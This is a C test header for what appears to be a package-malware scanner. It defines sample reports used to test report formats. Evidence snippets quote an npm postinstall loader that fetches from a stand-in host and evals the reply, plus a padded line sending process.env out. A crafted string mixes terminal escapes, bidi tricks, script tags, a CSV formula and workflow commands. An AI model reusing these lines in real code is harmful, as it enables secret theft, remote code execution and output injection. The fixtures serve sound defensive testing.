/* sample_reports.h - hand-made reports for the tests of formats: one of each verdict, and one whose
 * every text is an attack on whoever shows it. */
#ifndef RT_TEST_SAMPLE_REPORTS_H
#define RT_TEST_SAMPLE_REPORTS_H

#include "model/attribution.h"
#include "model/report_format.h"
#include "model/trace.h"

#define S(literal)                                                                                 \
    {                                                                                              \
        (const uint8_t *)(literal), sizeof(literal) - 1                                            \
    }

static const RtStr raw_layer[] = { S("package/setup.js") };
static const RtStr deep_layers[] = { S("package/setup.js"), S("base64"), S("xor 0x5f") };
static const RtStr attack_ids[] = { S("T1195.002"), S("T1059.007") };

static const RtEvidence loader_places[] = {
    { .layers = deep_layers,
      .layer_count = 3,
      .file = S("package/setup.js"),
      .line = 1,
      .column = 31,
      .snippet = S("const h = require('https');\nh.get('https://c2.example.invalid/icons/101', r "
                   "=> eval(r))"),
      .mark_from = 34,
      .mark_len = 41,
      .says = S("net.request https://c2.example.invalid/icons/101 (flow)") },
    { .layers = raw_layer,
      .layer_count = 1,
      .file = S("package/setup.js"),
      .line = 7,
      .column = 9,
      .snippet = S("'use strict';\nlet é = atob(blob);"),
      .mark_from = 23,
      .mark_len = 10,
      .says = S("data.decode base64 (flow)") },
};
static const RtEvidence env_places[] = {
    { .layers = raw_layer,
      .layer_count = 1,
      .file = S("package/setup.js"),
      .line = 3,
      .column = 1204,
      .snippet = S("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
                   "aaaaaaaaaaa"
                   ";send(JSON.stringify(process.env));"
                   "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
                   "bbbbbbbbbbb"),
      .mark_from = 112,
      .mark_len = 11,
      .says = S("env.read * (flow)") },
};
static const RtFinding bad_findings[] = {
    { .rule = S("exfiltration/env-to-network"),
      .family = S("exfiltration"),
      .title = S("Sends the whole environment to a server"),
      .why = S("The environment of a build holds tokens; no package needs all of it."),
      .advice = S("Rotate every secret the environment held."),
      .level = RT_STRONG,
      .attack = attack_ids + 1,
      .attack_count = 1,
      .phase = RT_WHEN_INSTALL,
      .witness = RT_SEEN_IN_FLOW,
      .times = 1,
      .evidence = env_places,
      .evidence_count = 1 },
    { .rule = S("remote-code/fetched-eval"),
      .family = S("remote-code"),
      .title = S("Runs what a server sends, at installation"),
      .why = S("The address stood encoded in two layers, and the answer is evaluated as code."),
      .advice = S("Look for a process it left behind."),
      .level = RT_CONCLUSIVE,
      .attack = attack_ids,
      .attack_count = 2,
      .phase = RT_WHEN_INSTALL,
      .witness = RT_SEEN_RUNNING,
      .times = 3,
      .evidence = loader_places,
      .evidence_count = 2 },
};
static const RtStep bad_story[] = {
    { RT_WHEN_INSTALL, RT_SEEN_IN_MANIFEST, S("npm runs postinstall: node setup.js"),
      S("package/package.json"), 6 },
    { RT_WHEN_INSTALL, RT_SEEN_IN_FLOW, S("reads the whole environment (process.env)"),
      S("package/setup.js"), 3 },
    { RT_WHEN_INSTALL, RT_SEEN_RUNNING,
      S("fetches https://c2.example.invalid/icons/101 and evaluates the answer"),
      S("package/setup.js"), 7 },
};
static const RtUnseen bad_unseen[] = { { S("limit-depth"), S("package/blob.bin"), 3 } };

static const RtTrait bad_traits[] = {
    { RT_TRAIT_CODE, 3, S("answer-to-code"), S("an answer becomes code"), S("package/setup.js"),
      7 },
    { RT_TRAIT_PROTOCOL, 2, S("icon-path"), S("asks for a numbered icon"), S("package/setup.js"),
      0 },
    { RT_TRAIT_AGAINST, -1, S("no-lure"), S("no lure around it"), S(""), 0 },
};
static const RtAttribution bad_likeness[] = {
    { S("sample-campaign"), S("Sample Campaign"), S("a made-up actor"), RT_CONSISTENT_WITH, 4,
      S("Works as published for Sample Campaign. Code alone attributes nothing."), bad_traits, 3 },
};
static const RtAttributions bad_attributions = { bad_likeness, 1 };

static const RtReport bad_report = {
    .artifact = { .path = S("./evil-1.0.0.tgz"),
                  .purl = S("pkg:npm/evil@1.0.0"),
                  .ecosystem = S("npm"),
                  .name = S("evil"),
                  .version = S("1.0.0"),
                  .sha256 = { 0xAB, 0xCD },
                  .has_sha256 = true,
                  .bytes = 2048 },
    .verdict = { RT_VERDICT_MALICIOUS, 0.98126, false },
    .findings = bad_findings,
    .finding_count = 2,
    .unseen = bad_unseen,
    .unseen_count = 1,
    .story = bad_story,
    .step_count = 3,
    .attributions = &bad_attributions,
    .elapsed_ms = 12,
};
static const RtReport clean_report = {
    .artifact = { .path = S("node_modules/left-helper"),
                  .purl = S("pkg:npm/left-helper@1.3.0"),
                  .ecosystem = S("npm"),
                  .name = S("left-helper"),
                  .version = S("1.3.0"),
                  .bytes = 900 },
    .verdict = { RT_VERDICT_CLEAN, 0.0004, true },
    .elapsed_ms = 1,
};
static const RtFinding note_findings[] = {
    { .rule = S("install-hook/native-build"),
      .title = S("Builds native code at installation"),
      .level = RT_NOTE,
      .phase = RT_WHEN_INSTALL,
      .witness = RT_SEEN_IN_MANIFEST },
};
static const RtReport notable_report = {
    .artifact = { .path = S("node_modules/fast-thing"),
                  .purl = S("pkg:npm/fast-thing@2.0.0"),
                  .ecosystem = S("npm"),
                  .name = S("fast-thing"),
                  .version = S("2.0.0"),
                  .bytes = 5000 },
    .verdict = { RT_VERDICT_NOTABLE, 0.05, true },
    .findings = note_findings,
    .finding_count = 1,
};
static const RtUnseen worker_unseen[] = { { S("the worker was killed after 60 s"), { 0 }, 1 } };
static const RtReport unknown_report = {
    .artifact = { .path = S("odd.bin"), .bytes = 3 },
    .verdict = { RT_VERDICT_UNKNOWN, 0, false },
    .unseen = worker_unseen,
    .unseen_count = 1,
};

/* ESC ] sets a title, U+202E turns text round, U+200B hides; a script for HTML; a comma and a
 * formula for CSV; bytes that are not UTF-8; GitHub's workflow commands. */
#define NASTY                                                                                      \
    "\033]0;owned\007\342\200\256txt.js\342\200\213<script>alert(1)</"                             \
    "script>,=cmd|\377\n::error::x]]>\"'"
static const RtStr nasty_layers[] = { S(NASTY), S("base64" NASTY) };
static const RtStr nasty_attack[] = { S(NASTY) };
static const RtEvidence nasty_places[] = {
    { .layers = nasty_layers,
      .layer_count = 2,
      .file = S(NASTY),
      .line = 1,
      .column = 1,
      .snippet = S(NASTY "\0" NASTY),
      .mark_from = 2,
      .mark_len = 60,
      .says = S("file.write " NASTY) },
    { .snippet = S("short"), .mark_from = 4000000000U, .mark_len = 4000000000U },
};
static const RtFinding nasty_findings[] = {
    { .rule = S("r" NASTY),
      .family = S(NASTY),
      .title = S(NASTY),
      .why = S(NASTY),
      .advice = S(NASTY),
      .level = RT_STRONG,
      .attack = nasty_attack,
      .attack_count = 1,
      .evidence = nasty_places,
      .evidence_count = 2 },
};
static const RtStep nasty_story[] = { { RT_WHEN_OPEN, RT_SEEN_IN_TEXT, S(NASTY), S(NASTY), 0 } };
static const RtUnseen nasty_unseen[] = { { S(NASTY), S(NASTY), 0 } };
static const uint32_t trace_because[] = { 0 };
static const RtTraceLayer trace_layers[] = {
    { .via = RT_VIA_ENTRY, .name = S("a/" NASTY), .language = S("javascript"), .bytes = 90 },
    { .parent = 0,
      .via = RT_VIA_EVALUATED,
      .name = S("eval" NASTY),
      .line = 3,
      .bytes = 60,
      .text = S("one();\n" NASTY) },
};
static const RtTraceEvent trace_events[] = {
    { .kind = RT_FACT_NET_REQUEST,
      .phase = RT_WHEN_INSTALL,
      .line = 1,
      .column = 2,
      .args = { S("https://c2.example.invalid/" NASTY), S("GET") } },
    { .kind = RT_FACT_CODE_EVAL,
      .deferred = true,
      .at_ms = 20,
      .layer = 1,
      .line = 1,
      .column = 1,
      .args = { S(NASTY), S("eval") },
      .because = trace_because,
      .because_count = 1 },
};
static const RtTrace nasty_trace = { .events = trace_events,
                                     .event_count = 2,
                                     .layers = trace_layers,
                                     .layer_count = 2,
                                     .emulation_ms = 12,
                                     .scripts = 1 };

static const RtReport nasty_report = {
    .trace = &nasty_trace,
    .artifact = { .path = S("a/" NASTY),
                  .purl = S("pkg:" NASTY),
                  .ecosystem = S(NASTY),
                  .name = S(NASTY),
                  .version = S(NASTY) },
    .verdict = { RT_VERDICT_SUSPICIOUS, 0.7, false },
    .findings = nasty_findings,
    .finding_count = 1,
    .unseen = nasty_unseen,
    .unseen_count = 1,
    .story = nasty_story,
    .step_count = 1,
};

static const RtReport *const all_reports[] = { &nasty_report, &bad_report, &clean_report,
                                               &notable_report, &unknown_report };
static const RtReportSummary all_summary = {
    .by_verdict = { 1, 1, 1, 1, 1 }, .incomplete = 3, .total = 5, .elapsed_ms = 2345
};

#endif
